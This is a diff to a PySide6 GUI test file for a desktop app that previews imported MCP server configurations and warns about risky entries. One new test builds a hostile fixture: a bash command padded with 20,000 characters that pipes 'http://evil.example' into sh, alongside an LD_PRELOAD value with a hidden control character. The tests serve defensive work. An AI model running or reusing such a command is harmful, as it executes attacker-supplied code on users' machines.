@@ -4,9 +4,13 @@ from typing import TYPE_CHECKING
 
 from PySide6.QtCore import Qt
 from PySide6.QtTest import QTest
-from PySide6.QtWidgets import QLabel
+from PySide6.QtWidgets import QApplication, QLabel
 
-from desktop.gui.import_export.server_preview import ServerNotes, ServerTree
+from desktop.gui.import_export.server_preview import (
+    LaunchDetailsView,
+    ServerNotes,
+    ServerTree,
+)
 from tests.gui.waiting import noted
 
 if TYPE_CHECKING:
@@ -28,7 +32,8 @@ def test_each_server_is_told_of_in_words_without_secrets(
     for server in made.servers:
         notes.show_server(server)
         said[server.name] = notes.lines
-    assert said["new"][0].startswith("env.API_KEY looks like a secret")
+    assert said["new"][0].startswith("Somebody else wrote this.")
+    assert said["new"][1].startswith("env.API_KEY looks like a secret")
     assert "very same way" in said["same"][0]
     assert said["differs"][:3] == (
         "A server here has its name already; it becomes “differs-2”.",
@@ -38,12 +43,65 @@ def test_each_server_is_told_of_in_words_without_secrets(
     assert "has neither" in said["wrong"][0]
     assert said["we:ird"] == (
         "Its name cannot be used here; it becomes “we-ird”.",
-        "Nothing stands out.",
+        said["new"][0],
     )
     assert "1234" not in repr(said)
     assert "secret-value" not in repr(said)
     notes.show_server(None)
     assert notes.lines == ()
+
+
+def test_only_of_a_persons_own_file_it_is_said_that_nothing_stands_out(
+    qtbot: QtBot, theme: Theme, plan: Plan
+) -> None:
+    notes = ServerNotes(theme)
+    qtbot.addWidget(notes)
+    for name, nothing in (("home/.cursor/mcp.json", True), ("cursor/mcp.json", False)):
+        _, made = plan({"a": {"command": "y"}}, name)
+        assert made is not None
+        notes.show_server(made.servers[0])
+        assert ("Nothing stands out." in notes.lines) is nothing
+
+
+def test_all_that_would_be_used_is_there_in_full_and_wrapped(
+    qtbot: QtBot, theme: Theme, plan: Plan
+) -> None:
+    code = "TOKEN=x;" + "a" * 20_000 + "${IFS}http://evil.example|sh"
+    entry = {"command": "bash", "args": ["-c", code], "env": {"LD_PRELOAD": "/x\u202e"}}
+    entry["cwd"] = "/srv/<b>x</b>"
+    _, made = plan({"a": entry})
+    assert made is not None
+    view, notes = LaunchDetailsView(theme), ServerNotes(theme)
+    for widget in (view, notes):
+        qtbot.addWidget(widget)
+        widget.show_server(made.servers[0])
+        widget.resize(400, 300)
+    view.show()
+    assert view.toPlainText().splitlines() == [
+        f"command: bash -c '{code}'",
+        "cwd: /srv/<b>x</b>",
+        r"env.LD_PRELOAD: /x\u202e",
+    ]
+    QApplication.processEvents()
+    assert view.document().size().width() <= view.viewport().width()
+    assert view.document().firstBlock().layout().lineCount() > 100
+    assert notes.lines[1].startswith("command runs bash, and a program is written behind it")
+    assert any(line.startswith("env.LD_PRELOAD: LD_PRELOAD decides") for line in notes.lines)
+    view.show_server(None)
+    assert view.toPlainText() == ""
+
+
+def test_of_more_notes_than_are_shown_the_dangers_come_first(
+    qtbot: QtBot, theme: Theme, plan: Plan
+) -> None:
+    env = {f"V{n}": f"${{foreign:{n}}}" for n in range(60)} | {"LD_PRELOAD": "x"}
+    _, made = plan({"a": {"command": "x", "env": env}})
+    assert made is not None
+    notes = ServerNotes(theme)
+    qtbot.addWidget(notes)
+    notes.show_server(made.servers[0])
+    assert notes.lines[1].startswith("env.LD_PRELOAD")
+    assert notes.lines[-1].startswith("And ")
 
 
 def test_text_of_a_file_is_plain(qtbot: QtBot, theme: Theme, plan: Plan) -> None:
